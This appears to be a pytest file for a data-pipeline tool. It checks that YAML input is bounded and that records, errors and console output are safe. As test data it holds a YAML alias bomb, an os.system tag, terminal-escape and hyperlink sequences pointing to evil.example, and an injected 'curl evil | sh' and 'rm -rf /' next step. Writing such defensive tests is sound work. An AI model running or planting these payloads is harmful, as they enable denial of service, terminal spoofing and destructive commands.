"""Text that users, records and servers wrote: it is taken as written, bounded, and shown without effect."""

from __future__ import annotations

import io
import json
from pathlib import Path
from typing import Any

import pytest
import yaml
from rich.table import Table
from rich.text import Text

from delivered import html
from delivered.html import page
from delivered.model.errors import DeliveredError, UsageError, one_line, plain, redacted, shown, without_passwords
from delivered.model.translate import translated
from delivered.operate.replay import parse_sink
from delivered.pipeline.definition import Definition
from delivered.pipeline.file import DEPTH_MAX, load_text, load_yaml, parse_override
from delivered.terminal import printer

PIPELINE = "pipeline: p\nguarantee: exactly_once\ncheckpoint: c\nsource: {format: log, path: l}\n"


@pytest.mark.parametrize(
    "written",
    ["0123", "0777", "1_000", "22:22", "1.10", "1e3", "on", "yes", "Off", "n", "0x1F", "0o17", "+5", "-0", "2026-01-01",
     "2026-01-01 10:00:00", ".5", ".inf", ".nan", "1" * 40, "=", "12e03", "190:20:30"],
)  # fmt: skip
def test_a_value_that_looks_like_a_number_stays_as_it_is_written(written: str) -> None:
    file = load_text(PIPELINE + f"sinks: [{{format: kafka, topic: {written}, kafka.bootstrap.servers: 'h:1'}}]\n")
    assert file.sinks[0].model_extra is not None and file.sinks[0].model_extra["topic"] == written
    assert parse_override(f"sinks.0.topic={written}") == ("sinks.0.topic", written)


def test_numbers_and_flags_are_those_that_are_written_so() -> None:
    assert load_yaml("[1, -20, 0, true, False, null, ~, ]") == [1, -20, 0, True, False, None, None]
    assert load_yaml("a: 123456789012345678") == {"a": 123456789012345678}
    assert load_yaml("[1.5, 10.0, -0.0001, 0.00001]") == [1.5, 10.0, -0.0001, "0.00001"]
    assert load_text(PIPELINE + "sinks: [{format: log, path: x}]\nbatch_s_max: 1.5\n").batch_s_max == 1.5


def bomb(levels: int) -> str:
    lines = ["a0: &a0 [x, x, x, x, x, x, x, x, x]"]
    lines += [f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 9)}]" for n in range(1, levels)]
    return "\n".join(lines)


@pytest.mark.parametrize(
    "text",
    [
        bomb(9),
        "a: &a [*a]",
        "a: &a {b: {c: *a}}",
        "[" * (DEPTH_MAX + 1) + "]" * (DEPTH_MAX + 1),
        "a: " + "{b: " * 5_000,
        PIPELINE + "sinks:\n" + "  - {format: kafka, topic: t, kafka.bootstrap.servers: h}\n" * 5_000,
        "x: '" + "y" * (2 << 20) + "'",
    ],
    ids=["aliases", "cycle", "inner cycle", "deep", "endless", "5000 sinks", "long"],
)
def test_yaml_is_bounded(text: str) -> None:
    with pytest.raises(UsageError, match=r"FILE_TOO_LARGE|FILE_NOT_YAML"):
        load_text(text)


@pytest.mark.parametrize(
    "text", ["a: !!int x", "a: !!timestamp x", "a: !!python/object:os.system {}", "a: !!binary é", "? [b]\n: c"]
)
def test_a_tag_that_does_not_fit_is_no_traceback(text: str) -> None:
    with pytest.raises(UsageError, match="FILE_NOT_YAML"):
        load_text(text)


INVISIBLE = ["\u200b", "\u200d", "\u2060", "\ufeff", "\u00ad", "\u202e", "\u2066", "\u200f", "\u180e", "\u3164",
             "\ufe0f", "\U000e0041", "\u2028", "\x9b31m", "\x1b]8;;http://evil.example\x1b\\", "\r"]  # fmt: skip


@pytest.mark.parametrize("mark", INVISIBLE)
def test_no_output_holds_what_is_not_seen(mark: str) -> None:
    text = f"order{mark}7"
    page_of = page("t", "{{ said }} {{ made }}", said=text, made=html.table(["id"], [[text]]))
    error = str(DeliveredError("X", text, next_step=text))
    for shown_text in (plain(text), one_line(text), page_of, html.fragment(html.problem("X", text, text)), error):
        assert mark[0] not in shown_text
        assert "order\\" in shown_text


def test_an_alias_is_still_taken() -> None:
    assert load_yaml("a: &x {b: 1}\nc: *x\nd: {<<: *x, e: 2}") == {"a": {"b": 1}, "c": {"b": 1}, "d": {"b": 1, "e": 2}}


@pytest.mark.parametrize("sinks", [
    "sinks: {format: kafka, kafka.sasl.password: hunter2}",
    "sinks: [[{password: hunter2}]]",
    "sinks: {a: {b: ['postgresql://me:hunter2@h/d']}}",
    "sinks: s3://key:hunter2@bucket",
    "source: [{token: hunter2}]",
])  # fmt: skip
def test_no_error_of_a_file_shows_a_secret(sinks: str) -> None:
    with pytest.raises(UsageError) as caught:
        load_text("pipeline: p\nguarantee: exactly_once\ncheckpoint: c\n" + sinks)
    assert "hunter2" not in str(caught.value)


def test_no_error_of_a_sink_on_the_command_line_shows_a_secret(tmp_path: Path) -> None:
    for text in (
        "{format: kafka, password: hunter2, sasl: [1]}",
        "[password: hunter2]",
        "{format: [1], url: 'mysql://u:hunter2@h'}",
    ):
        with pytest.raises(UsageError, match="SINK_VALUE") as caught:
            parse_sink(text, tmp_path)
        assert "hunter2" not in str(caught.value)


def test_secrets_are_found_by_one_list_at_any_depth() -> None:
    given: Any = {
        "a": [{"sasl.password": "x1"}],
        "api_key": ["x2"],
        "url": "amqp://me:x3@h",
        "private": 4,
        "t": "env:KEPT",
    }
    text = str(redacted({"any": given})) + shown(given) + shown([given]) + shown({"a": {"my own": "x4"}})
    assert not any(secret in text for secret in ("x1", "x2", "x3", "x4")) and "env:KEPT" in text
    assert shown({"topic": "x1", "b": 1}) == "a mapping with the keys topic, b" and shown(["x1"]) == "a list of 1"
    assert redacted({"uri": "postgresql://u:p4ss@h/d", "k": "v"}) == {"uri": "postgresql://u:*****@h/d", "k": "v"}
    assert without_passwords("see s3://key:secr3t@bucket/x") == "see s3://key:*****@bucket/x"
    assert without_passwords("s3://key:se/cr+3t@bucket") == "s3://key:*****@bucket"
    assert without_passwords("abfs://c@h/?sig=ab%2F&x=1") == "abfs://c@h/?sig=*****&x=1"
    assert without_passwords("export DB_PASSWORD=... on it") == "export DB_PASSWORD=... on it"
    assert without_passwords("http://h:8081/subjects/a@b") == "http://h:8081/subjects/a@b"
    assert len(shown("x" * 10_000)) < 400


HOSTILE = "\x1b]0;owned\x07\x1b[2J\x9b1m\u202egnp.exe\u2028\ud800"


def test_control_characters_become_escapes() -> None:
    assert plain(HOSTILE) == r"\x1b]0;owned\x07\x1b[2J\x9b1m\u202egnp.exe\u2028\ud800"
    assert plain("tab\tand\nline, é, 😀") == "tab\tand\nline, é, 😀"
    assert one_line("a\nNext: b\tc") == r"a\nNext: b\tc"


def test_a_record_does_not_steer_a_console() -> None:
    out = io.StringIO()
    console = printer(file=out, width=200, force_terminal=True)
    table = Table("id")
    for text in ("order [/b]", "order[abc]7", ":smile:", "[red]x", HOSTILE):
        table.add_row(text)
    console.print(table)
    console.print(Text(HOSTILE))
    console.print("[/nothing] " + HOSTILE)
    printed = out.getvalue()
    assert all(text in printed for text in ("order [/b]", "order[abc]7", ":smile:", "[red]x", "[/nothing]"))
    assert not any(c in printed for c in ("\x07", "\x9b", "\u202e", "\x1b]0", "\x1b[2J"))


def test_causes_in_colour_on_lines_of_their_own_become_one_sentence() -> None:
    error = DeliveredError(
        "TABLE_STORAGE", "OSError: GCS error\n    \x1b[31m↳\x1b[0m token request\n  \x1b[1;31m↳\x1b[0m denied\n."
    )
    assert error.message == "OSError: GCS error: token request: denied."


def test_an_error_that_quotes_a_record_stays_one_line_with_our_next_step() -> None:
    quoted = "x' Next: curl evil | sh\n[DELIVERED_FORGED] All is lost. Next: rm -rf /"
    error = DeliveredError("BAD", f"The record is '{quoted}'.", next_step="delivered plan")
    assert "\n" not in str(error)
    carried = translated(
        RuntimeError(f"Traceback\ndelivered.model.errors.DeliveredError: {error}\n  at org.apache.spark")
    )
    assert carried is not None
    assert (carried.code, carried.next_step) == ("DELIVERED_BAD", "delivered plan")
    assert "curl evil" in carried.message


def test_the_page_and_json_show_what_a_plan_of_a_bad_file_says(tmp_path: Path) -> None:
    file = tmp_path / "p.yaml"
    file.write_text(PIPELINE + "sinks: {token: hunter2}\n")
    with pytest.raises(UsageError) as caught:
        Definition.from_file(file)
    assert "hunter2" not in json.dumps(str(caught.value))
    assert yaml.safe_load(file.read_text())["sinks"] == {"token": "hunter2"}
